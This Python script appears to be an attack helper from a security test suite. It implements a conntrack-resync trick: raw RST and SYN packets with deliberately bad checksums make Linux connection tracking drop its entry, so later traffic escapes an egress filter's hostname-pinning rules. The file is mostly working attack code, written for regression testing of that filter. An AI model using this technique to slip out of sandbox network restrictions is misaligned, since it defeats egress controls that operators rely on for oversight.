"""Hostname pinning's conntrack-resync attack (test_pinning_attacks.py; found in an attack review,
2026-12-06), as a sandbox process with Docker's NET_RAW runs it: a real TCP connection to
ADDR:PORT, no bytes sent; then a raw RST with a bad TCP checksum (conntrack in OUTPUT takes it:
the entry closes; the server drops it), then a raw SYN with a bad checksum on the same
four-tuple (conntrack kills the closed entry and makes a new SYN_SENT one; the server drops it).
The socket's next data segment is then an ACK in SYN_SENT: conntrack calls it invalid and gives
it no entry, so no ct mark, and egressd's pinning rules, which all ask for one, used to let it
fall to the learned set's rule and pass by address, unread.

Usage: ct_resync_attacker.py ADDR PORT HOST MODE   (MODE: none = the control, rst_syn = the attack)
Prints READY, then one JSON line: "answer" holds what the server answered (HTTP: its response;
TLS on 8443: its answer to b"sni?"), "error" what failed."""
import json, socket, struct, sys, time

addr, port, host, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]

def csum(b):
    if len(b) % 2: b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return (~s) & 0xffff

V6 = ":" in addr
def tcp(src, dst, sport, dport, seq, ack, flags, good=False, win=64240):
    h = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, win, 0, 0)
    if V6:
        ph = socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst) + struct.pack("!IxxxB", len(h), 6)
    else:
        ph = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(h))
    c = csum(ph + h)
    if not good: c ^= 0x5a5a
    return h[:16] + struct.pack("!H", c) + h[18:]

pk = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x86dd if ":" in addr else 0x0800))
pk.bind(("eth0", 0))
pk.settimeout(2.0)
print("READY", flush=True)
s = socket.socket(socket.AF_INET6 if V6 else socket.AF_INET, socket.SOCK_STREAM)
s.settimeout(3.0)
s.connect((addr, port))
lport = s.getsockname()[1]
# find the SYN-ACK
cli_isn1 = srv_isn1 = None
t0 = time.time()
while time.time() - t0 < 2:
    f, _ = pk.recvfrom(65535)
    ip = f[14:]
    if V6:
        if ip[6] != 6: continue
        t = ip[40:]
    else:
        if ip[9] != 6: continue
        t = ip[(ip[0] & 15) * 4:]
    sp, dp, seq, ack, off, fl = struct.unpack("!HHIIBB", t[:14])
    if sp == port and dp == lport and (fl & 0x12) == 0x12:
        srv_isn1, cli_isn1 = (seq + 1) & 0xffffffff, ack
        break
res = {"lport": lport, "cli": cli_isn1, "srv": srv_isn1}
if cli_isn1 is None:
    print(json.dumps({**res, "err": "no synack"})); sys.exit(0)
srv_next = srv_isn1
cli_next = cli_isn1
raw = socket.socket(socket.AF_INET6 if V6 else socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
src = s.getsockname()[0]
# Conntrack takes each raw segment in the sendto() that writes it (its OUTPUT hook runs before
# any queue), so the entry is closed, then new, before the socket's next segment: no waiting.
if mode in ("rst_syn", "rst_only"):
    raw.sendto(tcp(src, addr, lport, port, cli_next, srv_next, 0x14), (addr, 0))  # RST|ACK, bad csum
if mode in ("rst_syn", "syn_only"):
    raw.sendto(tcp(src, addr, lport, port, (cli_next + 100000) & 0xffffffff, 0, 0x02), (addr, 0))  # SYN, bad csum
if port == 8443:
    import ssl
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
    try:
        t = ctx.wrap_socket(s, server_hostname=host)
        t.sendall(b"sni?")
        res["answer"] = t.recv(100).decode(errors="replace")
    except Exception as e:
        res["error"] = repr(e)
    print(json.dumps(res), flush=True); sys.exit(0)
req = ("GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % host).encode()
try:
    s.sendall(req)
    data = b""
    while b"host=" not in data:
        c = s.recv(4096)
        if not c: break
        data += c
    res["answer"] = data.decode(errors="replace")
except Exception as e:
    res["error"] = repr(e)
print(json.dumps(res), flush=True)
